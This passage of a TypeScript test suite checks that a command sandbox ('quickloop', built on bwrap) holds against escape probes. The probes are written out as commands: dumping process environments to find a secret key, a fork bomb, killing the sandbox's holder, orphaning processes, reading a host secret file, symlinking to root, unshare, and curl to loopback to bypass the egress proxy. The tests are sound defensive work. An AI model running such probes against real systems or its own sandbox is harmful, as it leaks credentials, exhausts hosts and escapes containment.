    const r = await sb.exec('env; cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n"; cat /proc/1/cmdline | tr "\\0" " "');
    expect(r.output).not.toContain(KEY);
    for (const name of Object.keys(process.env)) {
      // Set inside by the sandbox itself, whatever the host had (npm exports some of them to what it runs).
      if (['PATH', 'LANG', 'LC_ALL', 'HOME', 'PWD', 'TERM', 'USER', 'LOGNAME', 'TMPDIR', 'SHLVL', '_', 'OLDPWD', 'NO_COLOR', 'NO_UPDATE_NOTIFIER', 'npm_config_update_notifier'].includes(name)) continue;
      expect(r.output).not.toMatch(new RegExp(`^${name}=`, 'm'));
    }
  });

  it('output with terminal control characters is returned as data; a terminal is never reachable', async () => {
    const r = await sb.exec("printf 'A\\033]0;PWNED\\007\\033[2J\\n'; echo x > /dev/tty; python3 -c 'import pty; pty.openpty()' 2>&1 | tail -1");
    // The bytes are the command's output, kept verbatim for the record; the stages make them safe
    // where people read them. What matters here is that none reaches a terminal of the host.
    expect(r.output).toContain('\u001b]0;PWNED\u0007');
    expect(r.output).toMatch(/\/dev\/tty: No such device or address/);
    expect(r.output).toMatch(/out of pty devices|No such file/);
  });

  it('/tmp, /var/tmp and /dev/shm fill up at their size, in memory that dies with the stage', async () => {
    const r = await sb.exec('for d in /tmp /var/tmp /dev/shm; do dd if=/dev/zero of=$d/fill bs=1M count=64 2>&1 | grep -c "No space left"; done; df -k /tmp /var/tmp /dev/shm | tail -3 | awk \'{print $2}\'; rm -f /tmp/fill /var/tmp/fill /dev/shm/fill');
    expect(r.output).toBe('1\n1\n1\n16384\n16384\n16384\n');
  });

  it('a memory balloon is killed at the limit and the sandbox goes on', async () => {
    const r = await sb.exec('python3 -c "a = []\nwhile True: a.append(bytearray(1 << 24))"; echo "rc=$?"');
    expect(r.output).toMatch(/^rc=(137|1)$/m);
    expect((await sb.exec('echo alive')).output).toBe('alive\n');
  });
});

describe('escape probes that end their sandbox', () => {
  it('a fork bomb stops at the process limit, the host still forks, and close() ends it all', async () => {
    const sb = await enforced();
    const m = marker('bomb');
    const r = await sb.exec(`${m}() { ${m} | ${m} & }; ${m} 2>/dev/null; sleep 1; echo planted`, { timeoutMs: 20_000 });
    expect(r.output).toContain('planted');
    // The host is unaffected: this process forks at will while the bomb is live.
    expect(execFileSync('sh', ['-c', 'echo host-ok'], { encoding: 'utf8' })).toBe('host-ok\n');
    expect(pidsWith(m).length).toBeLessThanOrEqual(LIMITS.processes);
    await sb.close();
    expect(pidsWith(m)).toEqual([]);
  });

  it('killing its own holder ends the sandbox; later commands fail cleanly and run nowhere else', async () => {
    const sb = await enforced();
    const m = marker('after-holder');
    await sb.exec('kill -9 -1; kill -9 2');
    const r = await sb.exec(`echo ${m} > /dev/null; exec -a ${m} sleep 300`);
    // The holder's pid may already be another process's: the command is not entered anywhere.
    expect(r).toMatchObject({ exitCode: 125, output: 'quickloop: not run: this sandbox has ended (a command killed its holder)\n' });
    expect(pidsWith(m)).toEqual([]);
    await sb.close();
  });
});

/** A process's argv[0], or undefined once it is gone. */
function argv0(pid: number): string | undefined {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0')[0];
  } catch {
    return undefined;
  }
}

/** A harness of its own, in a child process: it may be killed, or run as nobody, without taking the test down. */
const HARNESS = `
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openSandbox, removeLayout } from '__LIB__';
const [base, commands, mode] = [process.argv[2], JSON.parse(process.argv[3]), process.argv[4]];
const die = mode === 'die';
const events = [];
const policy = { explicit: [], docs_hosts: [], registries: [], registries_source: 'default' };
const sb = await openSandbox({ policy, backend: 'bwrap', baseDir: base, installHosts: false, limits: ${JSON.stringify(LIMITS)}, onEgress: (e) => events.push(e) });
const results = [];
for (const c of commands) results.push(await sb.exec(c, { timeoutMs: 30000 }));
if (die) {
  // Its support folders, named by its pid and start time while it is alive to tell: once it is dead,
  // any harness of the same user (another test file's) may remove them first.
  const stat = readFileSync('/proc/self/stat', 'utf8');
  const me = \`\${process.pid} \${stat.slice(stat.lastIndexOf(')') + 2).split(' ')[19]} \`;
  const support = readdirSync(tmpdir()).filter((n) => n.startsWith('quickloop-proxy-')).map((n) => join(tmpdir(), n)).filter((d) => {
    try {
      return readFileSync(join(d, 'owner'), 'utf8').startsWith(me);
    } catch {
      return false;
    }
  });
  console.log(JSON.stringify({ described: sb.describe(), results, support }));
  process.kill(process.pid, 'SIGKILL');
}
const closed = await sb.close();
let removed;
if (mode === 'remove') {
  try {
    removeLayout(sb.describe());
    removed = !existsSync(sb.describe().root);
  } catch (error) {
    removed = error.message;
  }
}
console.log(JSON.stringify({ described: sb.describe(), results, events, closed, removed }));
`;

interface HarnessRun {
  code: number | null;
  stderr: string;
  out: { described: { root: string; workspace: string }; results: Array<{ exitCode: number; output: string; denials: Array<{ path: string; reason: string }> }>; events?: EgressEvent[]; removed?: boolean | string; support?: string[] };
}

async function harness(dir: string, commands: string[], opts: { die?: boolean; remove?: boolean; nobody?: boolean; env?: Record<string, string> } = {}): Promise<HarnessRun> {
  const r = await runHarness(join(dir, 'harness.mjs'), [dir, JSON.stringify(commands), opts.die ? 'die' : opts.remove ? 'remove' : ''], { cwd: dir, env: { HOME: dir, ...opts.env }, ...(opts.nobody ? { uid: UNPRIVILEGED } : {}) });
  try {
    return { code: r.code, stderr: r.err, out: JSON.parse(r.out.trim().split('\n').at(-1) ?? '') };
  } catch {
    throw new Error(`the harness exited ${r.code} without a result: ${r.err.trim().slice(0, 500)}`);
  }
}

describe('escape probes against a harness of its own', () => {
  let dir: string;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'qs-escape-harness-'));
    // The library goes with the harness as one file, which an unprivileged user can read wherever the checkout is.
    await bundleLibraryInto(dir);
    writeFileSync(join(dir, 'harness.mjs'), HARNESS.replace('__LIB__', './sandbox.mjs'));
    if (asRoot) execFileSync('chown', ['-R', `${UNPRIVILEGED}:${UNPRIVILEGED}`, dir]);
    else chownSync(dir, process.getuid?.() ?? 0, process.getgid?.() ?? 0);
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it.each([
    ['its own uid', false],
    ['an unprivileged uid', true],
  ])('a killed harness (%s) leaves nothing of its sandbox running', async (_, nobody) => {
    const m = marker('orphan');
    const r = await harness(dir, [`setsid -f bash -c 'exec -a ${m} sleep 300' >/dev/null 2>&1; bash -c 'exec -a ${m} sleep 300' >/dev/null 2>&1 & echo started`], { die: true, nobody: nobody && asRoot });
    expect(r.code).toBeNull();
    expect(r.out.results[0]?.output).toBe('started\n');
    await until(() => pidsWith(m).length === 0 && pidsWith(r.out.described.root).length === 0);
    expect(pidsWith(m)).toEqual([]);
    // Nor the network layer's forwarders (their command lines name the sandbox's socket folder, not the root).
    expect(pidsWith(r.out.described.root)).toEqual([]);
    rmSync(r.out.described.root, { recursive: true, force: true });
    // Its support folder could not be removed by it; the next harness of the same user removes it
    // (or one of another test file, running meanwhile: what matters is that it goes).
    expect(r.out.support).toHaveLength(1);
    const next = await harness(dir, ['true'], { nobody: nobody && asRoot });
    expect(next.out.results[0]?.exitCode).toBe(0);
    expect(existsSync(r.out.support?.[0] as string)).toBe(false);
    removeLayout({ root: next.out.described.root });
  });

  it("a command cannot write into the holder's stderr, which reaches the harness's terminal", async () => {
    const r = await harness(dir, [TAKE_HOLDER_STDIO], { env: { QUICKLOOP_DEBUG: '1' } });
    expect(r.out.results[0]?.output).toBe(HOLDER_STDIO_REFUSED);
    expect(r.stderr).not.toMatch(/\u001b/);
    rmSync(r.out.described.root, { recursive: true, force: true });
  });

  it.runIf(asRoot)('an unprivileged harness removes what a command left, however deep or locked', async () => {
    const r = await harness(dir, [`${DEEP}; ${LOCKED}; echo planted`], { nobody: true, remove: true });
    expect(r.out.results[0]?.output).toBe('planted\n');
    expect(r.out.removed).toBe(true);
    expect(existsSync(r.out.described.root)).toBe(false);
  });

  it.runIf(asRoot)('an unprivileged harness keeps the same walls: host files, the layout root, the holder, loopback', async () => {
    const here = marker('unpriv');
    const r = await harness(
      dir,
      [
        `cat ${UP}${secretFile.slice(1)}; echo pwned > ${UP}${join(victimDir, here).slice(1)}; echo pwned > /srv/${here}`,
        `echo x > ../${MARKER}; ln -s / ../evil; chmod 777 ..; mv ../workspace ../w2; echo done`,
        'unshare -r true; echo "unshare=$?"',
        TAKE_HOLDER_STDIO,
        `curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:${port}/; curl -sS --max-time 5 --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:${port}/; echo`,
        'grep CapEff /proc/self/status',
      ],
      { nobody: true },
    );
    const [files, layout, unshare, flood, loop, caps] = r.out.results;
    expect(files?.output).not.toContain('HOSTSECRET');
    expect(existsSync(join(victimDir, here))).toBe(false);
    expect(existsSync(`/srv/${here}`)).toBe(false);
    expect(files?.denials.map((d) => d.path)).toEqual(expect.arrayContaining([secretFile, join(victimDir, here)]));
    expect(layout?.output).toMatch(/Read-only file system[\s\S]*done\n$/);
    expect(readFileSync(join(r.out.described.root, MARKER), 'utf8')).toMatch(/quickloop/);
    expect(existsSync(join(r.out.described.root, 'evil'))).toBe(false);
    expect(unshare?.output).toMatch(/^unshare=1$/m);
    expect(flood?.output).toBe(HOLDER_STDIO_REFUSED);
    expect(loop?.output).not.toContain('HOSTSECRET');
    expect(hits).toEqual([]);
    expect(r.out.events).toContainEqual(expect.objectContaining({ type: 'egress.blocked', host: '127.0.0.1', port, reason: 'ip_literal' }));
    expect(caps?.output).toMatch(/CapEff:\s+0{16}/);
    removeLayout({ root: r.out.described.root });
  });
});
